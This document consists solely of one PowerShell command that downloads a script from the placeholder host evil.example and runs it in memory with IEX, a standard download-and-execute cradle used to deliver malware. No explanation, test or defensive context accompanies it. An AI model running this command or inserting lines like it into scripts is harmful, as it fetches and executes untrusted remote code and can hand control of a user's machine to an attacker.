IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')
